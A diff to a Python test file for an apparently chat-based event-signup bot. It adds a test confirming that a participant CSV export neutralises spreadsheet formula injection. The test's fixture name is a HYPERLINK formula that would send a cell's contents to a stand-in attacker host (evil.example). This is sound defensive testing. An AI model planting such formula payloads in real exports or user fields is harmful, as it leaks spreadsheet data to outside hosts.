@@ -3,6 +3,8 @@ and the organiser records who came."""
 
 from __future__ import annotations
 
+import csv
+import io
 from datetime import UTC, datetime, timedelta
 from zoneinfo import ZoneInfo
 
@@ -343,6 +345,29 @@ async def test_the_organiser_view_changes_and_cancellation(
 
     shown = await _change_time(sb, engine, mine, document)
     await _cancel(sb, engine, shown)
+
+
+async def test_a_name_that_looks_like_a_formula_stays_text_in_the_participant_csv(
+    sb: SandboxClient, engine: AsyncEngine, town: Town, sandbox: SandboxServer
+) -> None:
+    evil = '=HYPERLINK("http://evil.example/?leak="&A2,"詳細はこちら")'
+    trickster = 5106
+    sandbox.ensure_user(trickster, evil, started=True)
+    await add_person(engine, trickster, evil, town.east)
+    await _create(sb, announce=False)
+    for person in (trickster, HANAKO):
+        heading = await _say(sb, person, "/events")
+        card = await sb.wait_for_message(person, after=heading["message_id"])
+        await sb.press(person, card, text="参加する")
+        await sb.wait_for_edit(person, card["message_id"])
+    mine = await _say(sb, MIKA, "/myevents")
+    await sb.press(MIKA, mine, text="CSVで書き出す")
+    document = await sb.wait_for_message(MIKA, after=mine["message_id"])
+    text = (await sb.download(document["document"]["file_id"])).decode("utf-8-sig")
+    rows = list(csv.reader(io.StringIO(text, newline="")))
+    assert [r[0] for r in rows[1:]] == [f"'{evil}", "佐藤 花子"]
+    for cell in (c for r in rows for c in r):
+        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
 
 
 async def _change_time(sb: SandboxClient, engine: AsyncEngine, mine: dict, document: dict
